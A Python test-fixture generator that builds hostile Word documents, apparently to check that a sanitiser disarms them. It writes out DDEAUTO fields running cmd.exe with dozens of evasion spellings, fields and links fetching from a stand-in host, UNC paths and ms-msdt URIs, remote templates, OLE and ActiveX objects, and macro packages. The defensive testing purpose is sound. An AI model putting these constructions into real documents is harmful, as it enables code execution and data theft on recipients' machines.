"""Word documents: fields, what is fetched, objects, macros, disguises of packages and of parts (ECMA-376-1 part 17)."""
from archives import Entry, archive
from case import add, MAILS, ANY, DISARMED, OUTPUT, PAYLOAD as P, REFUSED

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MICROSOFT = "http://schemas.microsoft.com/office/"
WML = "application/vnd.openxmlformats-officedocument.wordprocessingml."
DML = "http://schemas.openxmlformats.org/drawingml/2006/"
NS = " ".join('xmlns:%s="%s"' % row for row in (
    ("w", "http://schemas.openxmlformats.org/wordprocessingml/2006/main"), ("r", OFFICE[:-1]),
    ("wp", DML + "wordprocessingDrawing"), ("a", DML + "main"), ("pic", DML + "picture"),
    ("v", "urn:schemas-microsoft-com:vml"), ("o", "urn:schemas-microsoft-com:office:office"),
    ("m", "http://schemas.openxmlformats.org/officeDocument/2006/math"),
    ("mc", "http://schemas.openxmlformats.org/markup-compatibility/2006"),
    ("wps", "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"),
    ("w14", "http://schemas.microsoft.com/office/word/2010/wordml")))
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
TEXT = "<w:p><w:r><w:t>本文</w:t></w:r></w:p>"
GIF = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
TYPES = ('<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/><Default Extension="gif" ContentType="image/gif"/>%s</Types>')
MAIN = "document.main+xml"
# Parts of a story, by the relationship's type: the root, an element around paragraphs.
STORIES = {
    "header": ("hdr", "%s"), "footer": ("ftr", "%s"),
    "footnotes": ("footnotes", '<w:footnote w:id="2">%s</w:footnote>'), "endnotes": ("endnotes", '<w:endnote w:id="2">%s</w:endnote>'),
    "comments": ("comments", '<w:comment w:id="2" w:author="x">%s</w:comment>'),
}
USES = {
    "header": '<w:sectPr><w:headerReference w:type="default" r:id="rIdS"/></w:sectPr>',
    "footer": '<w:sectPr><w:footerReference w:type="default" r:id="rIdS"/></w:sectPr>',
    "footnotes": '<w:p><w:r><w:footnoteReference w:id="2"/></w:r></w:p>', "endnotes": '<w:p><w:r><w:endnoteReference w:id="2"/></w:r></w:p>',
    "comments": '<w:p><w:r><w:commentReference w:id="2"/></w:r></w:p>',
}


def relations(*rows):
    """(id, type, target) or (id, type, target, mode)"""
    out = "".join('<Relationship Id="%s" Type="%s" Target="%s"%s/>' % (
        *row[:3], ' TargetMode="%s"' % row[3] if len(row) > 3 else "") for row in rows)
    return '%s<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>' % (HEAD, out)


def xml(root, inside, head=""):
    return '%s%s<w:%s %s>%s</w:%s>' % (HEAD, head, root, NS, inside, root)


def parts_of(body="", rels=(), parts=None, types=(), main=WML + MAIN, root_rels=(), head="", target="word/document.xml"):
    """The entries' names and data; `types`: (part, content type)."""
    overrides = "".join('<Override PartName="%s" ContentType="%s"/>' % row for row in (("/word/document.xml", main), *types))
    files = {
        "[Content_Types].xml": TYPES % overrides,
        "_rels/.rels": relations(("rId1", OFFICE + "officeDocument", target), *root_rels),
        "word/document.xml": xml("document", "<w:body>%s%s</w:body>" % (TEXT, body), head),
    }
    if rels:
        files["word/_rels/document.xml.rels"] = relations(*rels)
    files.update(parts or {})
    return {name: data if isinstance(data, bytes) else data.encode() for name, data in files.items()}


def pack(files, **more):
    return archive([Entry(name, data) for name, data in files.items()], **more)


def word(name, attacks, body="", rels=(), parts=None, must=(P,), expect=DISARMED, says=(), keeps=("本文",), kind=None, **more):
    add("word/" + (name if "." in name else name + ".docx"), kind or "docx", attacks, pack(parts_of(body, rels, parts, **more)),
        must, expect, keeps if expect != REFUSED else (), says)


def run(inside):
    return "<w:r>%s</w:r>" % inside


def char(kind):
    return run('<w:fldChar w:fldCharType="%s"/>' % kind)


def instr(text, element="instrText"):
    return run('<w:%s xml:space="preserve">%s</w:%s>' % (element, text, element))


def field(instruction, result="結果"):
    """`instruction`: text, or runs that are made already."""
    pieces = instruction if instruction.startswith("<") else instr(instruction)
    return char("begin") + pieces + char("separate") + run("<w:t>%s</w:t>" % result) + char("end")


def para(inside):
    return "<w:p>%s</w:p>" % inside


def simple(instruction):
    return '<w:fldSimple w:instr="%s"><w:r><w:t>結果</w:t></w:r></w:fldSimple>' % instruction


DDE = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k %s"' % P
QUOTED = "".join("%d " % c for c in DDE.encode())
SPELLINGS = {
    "simple": simple(DDE.replace('"', "&quot;")),
    "simple-mixed-case": simple(" dDeAuTo cmd &quot;%s&quot;" % P),
    "simple-references": simple("&#68;&#x44;E cmd %s" % P),
    "simple-white": simple("&#9;&#10;&#13; DDE cmd %s" % P),
    "simple-in-field": char("begin") + simple("DDE cmd %s" % P) + instr(" %s " % P) + char("end"),
    "complex": field(DDE), "complex-no-result": char("begin") + instr(DDE) + char("end"),
    "complex-dde": field("DDE excel %s x" % P), "complex-lower": field("ddeauto cmd %s" % P),
    "split-by-letter": field("".join(instr(c) for c in DDE)),
    "split-over-paragraphs": char("begin") + instr("DDEA") + "</w:p><w:p>" + instr("UTO cmd %s" % P) + char("separate") + char("end"),
    "split-by-unknown": field("<w:r><w:instrText>DD<w:x/>EAU<w14:y/>TO cmd %s</w:instrText></w:r>" % P),
    "split-by-comment": field("<w:r><w:instrText>DD<!-- x -->EAU<?x?>TO<![CDATA[ cmd %s]]></w:instrText></w:r>" % P),
    "split-by-bookmark": field(instr("DDE") + '<w:bookmarkStart w:id="0" w:name="x"/><w:bookmarkEnd w:id="0"/>' + instr("AUTO cmd %s" % P)),
    "split-by-proof": field(instr("DDE") + '<w:proofErr w:type="spellStart"/>' + instr("AUTO cmd %s" % P)),
    "split-by-insertion": field('<w:ins w:id="1" w:author="x">%s</w:ins>' % instr("DDE") + instr("AUTO cmd %s" % P)),
    "deleted": field('<w:del w:id="1" w:author="x">%s</w:del>' % instr(DDE, "delInstrText")),
    "split-by-smart-tag": field('<w:smartTag w:element="x" w:uri="u">%s</w:smartTag>' % instr("DDE") + instr("AUTO cmd %s" % P)),
    "split-by-control": field("<w:sdt><w:sdtContent>%s</w:sdtContent></w:sdt>" % instr("DDE") + instr("AUTO cmd %s" % P)),
    "in-alternatives": field('<mc:AlternateContent><mc:Choice Requires="zz">%s</mc:Choice><mc:Fallback>%s</mc:Fallback></mc:AlternateContent>' % (
        instr("PAGE"), instr("DDE cmd %s" % P))),
    "text-as-instruction": field(run("<w:t>DDE</w:t>") + instr("AUTO cmd %s" % P)),
    "symbol-as-letter": field(instr("DD") + run('<w:sym w:font="x" w:char="0045"/>') + instr(" cmd %s" % P)),
    "nested-quote": field(field("QUOTE " + QUOTED, P)),
    "nested-name": field(instr(" ") + field("QUOTE 68 68 69", "DDE") + instr(" cmd %s" % P)),
    "nested-set": field("SET c &quot;%s&quot;" % P) + field(instr("DDE ") + field("REF c", "x") + instr(" %s" % P)),
    "nested-if": field(instr('IF 1 = 1 "') + field("DDEAUTO cmd %s" % P, "x") + instr('" "x"')),
    "nested-seq": field(instr("SEQ x \\r ") + field("DDEAUTO cmd %s" % P, "1")),
    "nested-page": field(instr("= ") + field(instr("PAGE ") + field("DDE cmd %s" % P, "1"), "1")),
    "in-result": char("begin") + instr("PAGE") + char("separate") + field(DDE) + char("end"),
    "unclosed": char("begin") + instr(DDE), "no-begin": instr(DDE) + char("separate") + char("end"),
    "two-separators": char("begin") + instr("PAGE") + char("separate") + char("separate") + instr(DDE) + char("end"),
    "instruction-in-result": char("begin") + instr("PAGE") + char("separate") + instr(DDE) + char("end"),
    "dirty": '<w:r><w:fldChar w:fldCharType="begin" w:dirty="true"/></w:r>' + instr(DDE) + char("separate") + char("end"),
    "locked": '<w:r><w:fldChar w:fldCharType="begin" w:fldLock="true"/></w:r>' + instr(DDE) + char("separate") + char("end"),
    "field-data": '<w:r><w:fldChar w:fldCharType="begin"><w:fldData>%s</w:fldData></w:fldChar></w:r>' % P + instr("DDE x %s" % P) + char("end"),
    "wide-letters": field("ＤＤＥ cmd %s" % P), "hidden-letters": field("DD\u200bE cmd %s" % P),
    "quotes": field('"DDE" cmd %s' % P), "backslash": field("\\DDE cmd %s" % P),
}
FIELDS = {
    "includepicture": "INCLUDEPICTURE &quot;http://evil.example/%s.png&quot; \\d", "includetext": "INCLUDETEXT &quot;\\\\\\\\%s\\\\x.docx&quot;",
    "include": "INCLUDE http://%s/", "import": "IMPORT http://%s/x.gif", "link": "LINK Word.Document.8 &quot;\\\\\\\\%s\\\\x.docx&quot; x \\a \\p",
    "database": "DATABASE \\d &quot;%s.mdb&quot; \\c &quot;Provider=x&quot;", "macrobutton": "MACROBUTTON %s ここを押す",
    "gotobutton": "GOTOBUTTON %s 移動", "autotext": "AUTOTEXT %s", "autotextlist": "AUTOTEXTLIST &quot;%s&quot;", "glossary": "GLOSSARY %s",
    "print": "PRINT \\p page &quot;%s&quot;", "private": "PRIVATE %s", "embed": "EMBED Package %s", "rd": "RD &quot;http://%s/x.doc&quot;",
    "addin": "ADDIN %s", "control": "CONTROL Forms.%s", "htmlcontrol": "HTMLCONTROL %s", "docvariable": "DOCVARIABLE %s", "set": "SET x %s",
    "ask": "ASK x %s", "fillin": "FILLIN %s", "quote": "QUOTE %s", "docproperty": "DOCPROPERTY %s", "username": "USERNAME %s",
    "barcode": "MERGEBARCODE %s QR", "unknown": "%s x", "empty-and-more": "\u3000%s",
    "hyperlink-javascript": "HYPERLINK &quot;javascript:%s&quot;", "hyperlink-file": "HYPERLINK &quot;file:///c:/%s.exe&quot;",
    "hyperlink-unc": "HYPERLINK \\\\\\\\%s\\\\share", "hyperlink-mhtml": "HYPERLINK mhtml:http://%s/", "hyperlink-msdt": "HYPERLINK &quot;ms-msdt:/id %s&quot;",
    "hyperlink-two": "HYPERLINK http://example.jp/ &quot;file:%s&quot;",
}


def make_fields():
    for key, address in MAILS.items():
        f = field("HYPERLINK &quot;%s&quot;" % address.replace("&", "&amp;").replace("\\", "\\\\"))
        word("field-hyperlink-" + key, "a link by field: " + key, para(f), kind="docx-field", keeps=("本文", "結果"), says="WORD_FIELD")
    for key, inside in SPELLINGS.items():
        word("dde-" + key, "DDE: " + key, para(inside), must=[P, QUOTED], kind="docx-field")
    for key, f in FIELDS.items():
        f = f % P
        word("field-" + key, "a field: " + key, para(field(f)), kind="docx-field", keeps=("本文", "結果"), says="WORD_FIELD")
        word("field-simple-" + key, "a simple field: " + key, para(simple(f)), kind="docx-field", keeps=("本文", "結果"), says="WORD_FIELD")
    for key, (root, around) in STORIES.items():
        name = "word/%s1.xml" % key
        word("dde-in-" + key, "DDE in " + key, USES[key], [("rIdS", OFFICE + key, name[5:])], {name: xml(root, around % para(field(DDE, "控え")))},
             types=[("/" + name, WML + key + "+xml")], kind="docx-field", keeps=("本文", "控え"), says="WORD_FIELD")
    # A field that begins in one story and ends in another.
    word("dde-over-stories", "DDE that begins in the header and goes on in the body", para(instr("AUTO cmd %s" % P) + char("end")) + USES["header"],
         [("rIdS", OFFICE + "header", "h.xml")], {"word/h.xml": xml("hdr", para(char("begin") + instr("DDE")))},
         types=[("/word/h.xml", WML + "header+xml")], kind="docx-field")
    box = para(field(DDE, "箱の中"))
    word("dde-in-vml-box", "DDE in a text box", para(run('<w:pict><v:shape id="x" style="width:9pt"><v:textbox><w:txbxContent>%s</w:txbxContent></v:textbox>'
         "</v:shape></w:pict>" % box)), kind="docx-field", keeps=("本文", "箱の中"), says="WORD_FIELD")
    word("dde-in-drawn-box", "DDE in a shape", para(run(anchored('http://schemas.microsoft.com/office/word/2010/wordprocessingShape',
         "<wps:wsp><wps:cNvSpPr/><wps:spPr/><wps:txbx><w:txbxContent>%s</w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp>" % box))),
         kind="docx-field", keeps=("本文", "箱の中"), says="WORD_FIELD")
    word("dde-in-table", "DDE in a table in a table", "<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc><w:tbl><w:tblPr/><w:tblGrid>"
         "<w:gridCol/></w:tblGrid><w:tr><w:tc>%s</w:tc></w:tr></w:tbl><w:p/></w:tc></w:tr></w:tbl>" % para(field(DDE, "枡")), kind="docx-field",
         keeps=("本文", "枡"), says="WORD_FIELD")
    word("dde-over-box", "DDE that begins before a text box and goes on in it", para(char("begin") + instr("DDE") + run(
         '<w:pict><v:shape style="width:9pt"><v:textbox><w:txbxContent>%s</w:txbxContent></v:textbox></v:shape></w:pict>' % para(
             instr("AUTO %s" % P) + char("end"))) + instr("AUTO cmd %s" % P) + char("end")), kind="docx-field")
    word("dde-in-style-name", "a style's name that is a field", rels=[("rId2", OFFICE + "styles", "styles.xml")], parts={"word/styles.xml": xml(
         "styles", '<w:style w:type="paragraph" w:styleId="x"><w:name w:val="x"/><w:pPr><w:fldSimple w:instr="DDE %s"/></w:pPr></w:style>' % P)},
         types=[("/word/styles.xml", WML + "styles+xml")], kind="docx-field", expect=OUTPUT)
    word("form-macros", "macros at a form's field", para('<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="x"/><w:entryMacro w:val="%s"/>'
         '<w:exitMacro w:val="%s"/><w:textInput/></w:ffData></w:fldChar></w:r>' % (P, P) + instr("FORMTEXT") + char("separate") + char("end")),
         kind="docx-field", says="OOXML_MACRO")


def anchored(uri, inside, click=""):
    return ('<w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="x">%s</wp:docPr><a:graphic><a:graphicData uri="%s">%s</a:graphicData>'
            "</a:graphic></wp:inline></w:drawing>" % (click, uri, inside))


def picture(blip, click="", inner=""):
    return anchored(DML + "picture", '<pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="x">%s</pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip %s/>'
                    '<a:stretch/></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
                    % (inner, blip), click)


LINKS = {
    "javascript": "javascript:%s()", "file": "file:///C:/%s.exe", "unc": "\\\\%s\\share\\x", "file-unc": "file://%s/share/x",
    "vbscript": "vbscript:%s", "data": "data:text/html,%s", "search-ms": "search-ms:query=%s", "ms-word": "ms-word:ofe|u|http://%s/x",
    "ms-msdt": "ms-msdt:/id PCWDiagnostic %s", "ms-officecmd": "ms-officecmd:%s", "relative": "../%s.exe", "mhtml": "mhtml:http://%s/x!y",
    "mixed-case": " JaVaScRiPt:%s", "percent": "%%6aavascript:%s", "tab": "java&#9;script:%s", "ftp": "ftp://%s/", "ldap": "ldap://%s/x",
    "mk": "mk:@MSITStore:%s.chm",
}


def make_links():
    places = {
        "text": para('<w:hyperlink r:id="rId2"><w:r><w:t>連絡先</w:t></w:r></w:hyperlink>'),
        "picture": para(run(picture('r:embed="rId3"', '<a:hlinkClick r:id="rId2"/>', '<a:hlinkClick r:id="rId2"/>')) + run("<w:t>連絡先</w:t>")),
    }
    for key, target in LINKS.items():
        for place, body in places.items():
            word("link-%s-%s" % (key, place), "a link: " + key, body, [("rId2", OFFICE + "hyperlink", target % P, "External"),
                 ("rId3", OFFICE + "image", "media/a.gif")], {"word/media/a.gif": GIF}, kind="docx-link", keeps=("本文", "連絡先"))
    word("link-quote", "an address that would end its attribute", places["text"], [("rId2", OFFICE + "hyperlink", "http://x/&quot;&gt;&lt;%s" % P, "External")],
         must=["<" + P, "&lt;" + P, "&quot;&gt;"], kind="docx-link", expect=OUTPUT)
    word("link-internal-lie", "a link into the package", places["text"], [("rId2", OFFICE + "hyperlink", "x/%s.exe" % P)],
         {"word/x/%s.exe" % P: "MZ"}, kind="docx-link")
    word("link-action", "a click on a picture that runs a macro", para(run(picture('r:embed="rId3"', '<a:hlinkClick r:id="" action="ppaction://macro?name=%s"/>' % P))),
         [("rId3", OFFICE + "image", "media/a.gif")], {"word/media/a.gif": GIF}, [P, "ppaction"], kind="docx-link")
    word("link-sound", "a click on a picture that plays", para(run(picture('r:embed="rId3"', '<a:hlinkClick r:id="rId2"><a:snd r:embed="rId4" name="x"/></a:hlinkClick>'))),
         [("rId2", OFFICE + "hyperlink", "http://example.jp/", "External"), ("rId3", OFFICE + "image", "media/a.gif"), ("rId4", OFFICE + "audio", "media/a.wav")],
         {"word/media/a.gif": GIF, "word/media/a.wav": "RIFF" + P}, kind="docx-link")


def make_fetched():
    image = OFFICE + "image"
    word("picture-link", "a picture fetched by r:link", para(run(picture('r:link="rId2"'))), [("rId2", image, "http://%s/a.png" % P, "External")], kind="docx-fetch")
    word("picture-link-twin", "a picture with a remote twin", para(run(picture('r:embed="rId3" r:link="rId2"'))), [
         ("rId2", image, "\\\\%s\\a.png" % P, "External"), ("rId3", image, "media/a.gif")], {"word/media/a.gif": GIF}, kind="docx-fetch", keeps=("本文", "GIF89a"))
    word("picture-embed-remote", "an embedded picture that is elsewhere", para(run(picture('r:embed="rId2"'))), [
         ("rId2", image, "file://%s/a.png" % P, "External")], kind="docx-fetch")
    word("picture-is-html", "a picture that is HTML", para(run(picture('r:embed="rId2"'))), [("rId2", image, "media/a.gif")],
         {"word/media/a.gif": "<html><script>%s</script>" % P}, kind="docx-fetch")
    word("picture-is-polyglot", "a picture with a program behind it", para(run(picture('r:embed="rId2"'))), [("rId2", image, "media/a.gif")],
         {"word/media/a.gif": GIF + P.encode()}, kind="docx-fetch", expect=OUTPUT)
    vml = {
        "href": '<v:shape id="x" style="width:9pt" href="javascript:%s"/>', "href-file": '<v:rect style="width:9pt" href="file://%s/"/>',
        "src": '<v:shape style="width:9pt"><v:imagedata src="http://%s/a.png"/></v:shape>', "image-src": '<v:image style="width:9pt" src="\\\\%s\\a.png"/>',
        "fill-src": '<v:rect style="width:9pt"><v:fill type="frame" src="http://%s/a.png"/></v:rect>',
        "o-href": '<v:rect style="width:9pt"><v:imagedata o:href="http://%s/a.png"/></v:rect>',
        "r-href": '<v:rect style="width:9pt"><v:imagedata r:id="rId2" r:href="rId2" o:title="x"/></v:rect>',
        "r-pict": '<v:rect style="width:9pt"><v:imagedata r:pict="rId2"/></v:rect>', "stroke": '<v:rect style="width:9pt"><v:stroke r:id="rId2" filltype="pattern"/></v:rect>',
        "althref": '<v:rect style="width:9pt"><v:fill althref="http://%s/" o:althref="http://%s/"/></v:rect>',
        "style": '<v:rect style="width:expression(%s);background:url(http://%s/)"/>', "script": '<v:rect style="width:9pt"><script>%s</script></v:rect>',
        "handler": '<v:rect style="width:9pt" onclick="%s" onmouseover="%s"/>', "bullet": '<v:rect style="width:9pt" o:button="t" href="mhtml:http://%s/" target="_top"/>',
        "movie": '<v:rect style="width:9pt"><v:imagedata o:movie="1" o:relid="rId2"/></v:rect>',
        "object": '<v:rect id="s1" style="width:9pt"/><o:OLEObject Type="Link" ProgID="%s" ShapeID="s1" DrawAspect="Icon" r:id="rId2" UpdateMode="Always"/>',
    }
    for key, inside in vml.items():
        inside = inside.replace("%s", P)
        word("vml-" + key, "VML: " + key, para(run("<w:pict>%s</w:pict>" % inside)), [("rId2", image, "http://%s/a.png" % P, "External")],
             must=[P, "javascript:", "expression("], kind="docx-fetch", expect=OUTPUT if key in ("stroke", "movie") else DISARMED)
    settings = {
        "template": ('<w:attachedTemplate r:id="rId1"/>', "attachedTemplate", "http://%s/t.dotm", "OOXML_TEMPLATE"),
        "template-unc": ('<w:attachedTemplate r:id="rId1"/>', "attachedTemplate", "\\\\%s\\t.dotm", "OOXML_TEMPLATE"),
        "template-mhtml": ('<w:attachedTemplate r:id="rId1"/>', "attachedTemplate", "mhtml:http://%s/x!x-usc:http://x/", "OOXML_TEMPLATE"),
        "mail-merge": ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="query"/><w:connectString w:val="%s"/><w:query w:val="SELECT %s"/>'
                       '<w:dataSource r:id="rId1"/><w:odso><w:udl w:val="%s"/><w:src r:id="rId1"/></w:odso></w:mailMerge>' % (P, P, P), "mailMergeSource", "file:///%s.mdb", "OOXML_MAIL_MERGE"),
        "schema": ('<w:attachedSchema w:val="http://%s/"/><sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main">'
                   '<sl:schema sl:uri="http://%s/" sl:schemaLocation="http://%s/x.xsd" sl:manifestLocation="http://%s/"/></sl:schemaLibrary>' % (P, P, P, P), "transform", "http://%s/x.xslt", ()),
        "transform": ('<w:saveThroughXslt r:id="rId1" w:solutionID="%s"/><w:useXSLTWhenSaving/>' % P, "transform", "http://%s/x.xslt", ()),
        "variables": ('<w:docVars><w:docVar w:name="x" w:val="%s"/></w:docVars>' % P, None, None, "WORD_VARIABLES"),
        "update-fields": ('<w:updateFields w:val="true"/>', None, None, ()),
        "protection": ('<w:writeProtection w:recommended="1" w:cryptProviderType="rsaAES" w:hash="%s" w:salt="x"/>' % P, None, None, "WORD_WRITE_PROTECTION"),
        "smart-tags": ('<w:smartTagType w:namespaceuri="urn:x" w:name="x" w:url="http://%s/"/>' % P, None, None, ()),
        "click-and-type": ('<w:clickAndTypeStyle w:val="x"/><w:hdrShapeDefaults><o:shapedefaults v:ext="edit"><v:fill src="http://%s/" o:href="http://%s/"/></o:shapedefaults></w:hdrShapeDefaults>' % (P, P), None, None, ()),
    }
    for key, (inside, kind, target, says) in settings.items():
        parts = {"word/settings.xml": xml("settings", inside)}
        if kind:
            parts["word/_rels/settings.xml.rels"] = relations(("rId1", OFFICE + kind, target % P, "External"))
        word("settings-" + key, "settings: " + key, rels=[("rId2", OFFICE + "settings", "settings.xml")], parts=parts, must=[P, "updateFields"],
             types=[("/word/settings.xml", WML + "settings+xml")], kind="docx-fetch", says=says, expect=DISARMED if says else OUTPUT)
    word("web-settings-frames", "frames in the web settings", rels=[("rId2", OFFICE + "webSettings", "webSettings.xml")], parts={
         "word/webSettings.xml": xml("webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'),
         "word/_rels/webSettings.xml.rels": relations(("rId1", OFFICE + "frame", "http://%s/" % P, "External"))},
         types=[("/word/webSettings.xml", WML + "webSettings+xml")], kind="docx-fetch", expect=OUTPUT)
    word("frameset-in-body", "frames in the document", '<w:frameset><w:frame><w:sourceFileName r:id="rId2"/></w:frame></w:frameset>', [
         ("rId2", OFFICE + "frame", "file://%s/" % P, "External")], kind="docx-fetch")
    word("sub-document", "a document fetched into this", '<w:p><w:subDoc r:id="rId2"/></w:p>', [("rId2", OFFICE + "subDocument", "file:///\\\\%s\\x.docx" % P, "External")],
         kind="docx-fetch", says="OOXML_INCLUDED")
    for ending, kind, data in (("html", "text/html", "<script>%s</script>"), ("rtf", "application/rtf", "{\\rtf1{\\object\\objdata %s}}"),
                               ("mht", "message/rfc822", "MIME-Version: 1.0\r\n\r\n%s"), ("docm", "application/vnd.ms-word.document.macroEnabled.main+xml", "PK%s"),
                               ("xml", "application/xml", '<?mso-application progid="Word.Document"?><x>%s</x>')):
        word("chunk-" + ending, "altChunk: " + ending, '<w:altChunk r:id="rId2"><w:altChunkPr><w:matchSrc/></w:altChunkPr></w:altChunk>', [("rId2", OFFICE + "aFChunk", "a." + ending)],
             {"word/a." + ending: data % P}, types=[("/word/a." + ending, kind)], kind="docx-fetch", says="OOXML_ALT_CHUNK")
    word("chunk-external", "altChunk from elsewhere", '<w:altChunk r:id="rId2"/>', [("rId2", OFFICE + "aFChunk", "http://%s/x.rtf" % P, "External")],
         kind="docx-fetch", says="OOXML_ALT_CHUNK")
    word("numbering-picture", "a bullet that is fetched", rels=[("rId2", OFFICE + "numbering", "numbering.xml")], parts={"word/numbering.xml": xml("numbering",
         '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape style="width:9pt"><v:imagedata r:id="rId1" src="http://%s/"/></v:shape></w:pict></w:numPicBullet>' % P),
         "word/_rels/numbering.xml.rels": relations(("rId1", image, "http://%s/" % P, "External"))}, types=[("/word/numbering.xml", WML + "numbering+xml")], kind="docx-fetch")
    word("background", "a page's background that is fetched", parts={"word/document.xml": xml("document", '<w:background w:color="FFFFFF"><v:background><v:fill r:id="rId2" '
         'src="http://%s/"/></v:background></w:background><w:body>%s</w:body>' % (P, TEXT))}, rels=[("rId2", image, "http://%s/" % P, "External")], kind="docx-fetch")


def make_objects():
    ole = '<w:object><v:shape id="s1" style="width:9pt"><v:imagedata r:id="rId3"/></v:shape><o:OLEObject Type="%s" ProgID="%s" ShapeID="s1" DrawAspect="Icon" ' \
          'ObjectID="_1" r:id="rId2"><o:LinkType>EnhancedMetaFile</o:LinkType><o:FieldCodes>%s</o:FieldCodes></o:OLEObject></w:object>'
    shown = ("rId3", OFFICE + "image", "media/a.gif")
    magic = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    for key, program, data in (("package", "Package", magic + b"MZ" + P.encode()), ("equation", "Equation.3", magic + P.encode()), ("exe", "exefile", b"MZ" + P.encode()),
                               ("html-application", "htmlfile", b"<hta:application>" + P.encode()), ("moniker", "StdOleLink", magic + P.encode())):
        word("object-" + key, "an embedded object: " + key, para(run(ole % ("Embed", program, P))), [("rId2", OFFICE + "oleObject", "embeddings/oleObject1.bin"), shown],
             {"word/embeddings/oleObject1.bin": data, "word/media/a.gif": GIF}, [P, "OLEObject", "oleObject"], kind="docx-object", says="OOXML_OLE", keeps=("本文", "GIF89a"))
    for key, target in (("unc", "file:///\\\\%s\\x.doc"), ("http", "http://%s/x.hta"), ("script", "script:http://%s/x.sct"), ("mhtml", "mhtml:http://%s/x.html!x-usc:http://x/")):
        word("object-linked-" + key, "a linked object: " + key, para(run(ole % ("Link", "htmlfile", P))), [("rId2", OFFICE + "oleObject", target % P, "External"), shown],
             {"word/media/a.gif": GIF}, [P, "OLEObject"], kind="docx-object", says="OOXML_OLE")
    word("object-picture-remote", "an object whose picture is fetched", para(run(ole % ("Embed", "x", ""))), [("rId2", OFFICE + "oleObject", "embeddings/o.bin"),
         ("rId3", OFFICE + "image", "http://%s/a.emf" % P, "External")], {"word/embeddings/o.bin": magic + P.encode()}, kind="docx-object")
    word("object-embed-element", "objects without VML", para(run('<w:object><w:objectEmbed w:progId="%s" r:id="rId2"/><w:objectLink w:progId="%s" r:id="rId2" w:updateMode="always"/></w:object>' % (P, P))),
         [("rId2", OFFICE + "oleObject", "o.bin")], {"word/o.bin": magic + P.encode()}, kind="docx-object")
    word("object-document-macros", "an embedded document with macros", para(run(ole % ("Embed", "Word.DocumentMacroEnabled.12", ""))), [("rId2", OFFICE + "package", "embeddings/o.docm"), shown],
         {"word/embeddings/o.docm": pack(parts_of("", [("rId2", MICROSOFT + "2006/relationships/vbaProject", "vbaProject.bin")], {"word/vbaProject.bin": P},
                                                  main="application/vnd.ms-word.document.macroEnabled.main+xml")), "word/media/a.gif": GIF}, [P, "macroEnabled", "vbaProject"], kind="docx-object")
    for key, around in (("object", '<w:object><v:shape style="width:9pt"/>%s</w:object>'), ("pict", '<w:pict><v:shape style="width:9pt"/>%s</w:pict>')):
        word("activex-" + key, "an ActiveX control in " + key, para(run(around % ('<w:control r:id="rId2" w:name="%s" w:shapeid="x"/>' % P))), [("rId2", OFFICE + "control", "activeX/activeX1.xml")],
             {"word/activeX/activeX1.xml": '<ax:ocx ax:classid="{%s}" ax:persistence="persistStreamInit" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="%s"/>' % (P, OFFICE[:-1]),
              "word/activeX/_rels/activeX1.xml.rels": relations(("rId1", MICROSOFT + "2006/relationships/activeXControlBinary", "activeX1.bin")), "word/activeX/activeX1.bin": P},
             [P, "activeX"], types=[("/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")], kind="docx-object", says="OOXML_ACTIVEX")
    word("contact-part", "ink and an embedded contents part", para('<w:contentPart r:id="rId2"/>' + run('<w:contentPart r:id="rId2"/>')), [("rId2", OFFICE + "customXml", "ink/ink1.xml")],
         {"word/ink/ink1.xml": "<ink>%s</ink>" % P}, kind="docx-object")
    word("movie", "a film", para(run('<w:movie r:id="rId2"/><w:t>x</w:t>')), [("rId2", OFFICE + "video", "http://%s/" % P, "External")], kind="docx-object")
    word("web-video", "a film's page in a picture", para(run(picture('r:embed="rId3"', '<a:extLst><a:ext uri="{C809E66F-F1BF-436E-b5F7-EEA9579F0CBA}"><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/'
         'office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=http://%s&gt;" h="9" w="9"/></a:ext></a:extLst>' % P))), [shown], {"word/media/a.gif": GIF}, kind="docx-object", expect=OUTPUT)


def make_packages():
    macro = ("rId9", MICROSOFT + "2006/relationships/vbaProject", "vbaProject.bin")
    data = ("rId1", MICROSOFT + "2006/relationships/wordVbaData", "vbaData.xml")
    parts = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + P.encode(), "word/_rels/vbaProject.bin.rels": relations(data), "word/vbaData.xml": "<x>%s</x>" % P}
    macros = [P, "macroEnabled", "vbaProject", "vbaData"]
    for name, main in (("docm", "application/vnd.ms-word.document.macroEnabled.main+xml"), ("dotm", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
                       ("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"), ("dotx", WML + "template.main+xml")):
        word("macros-in." + name, "macros in a " + name, rels=[macro], parts=parts, must=macros, main=main, kind="docx-macro", says="OOXML_MACRO")
